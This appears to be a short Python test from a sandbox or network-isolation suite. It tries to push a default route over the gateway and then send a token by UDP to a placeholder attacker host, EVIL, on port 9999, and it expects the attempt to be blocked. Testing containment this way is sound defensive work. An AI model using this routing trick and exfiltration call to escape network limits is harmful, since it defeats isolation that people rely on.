"""
how: a default route over the gateway
expect: shut
unseen: a plain network would carry it, as it has a way there already
"""

from frames import changed
from land import EVIL, GATEWAY
from sockets import udp


def attempt(token):
    return changed(["route", "replace", "0.0.0.0/1", "via", GATEWAY], lambda: udp(EVIL, 9999, token))
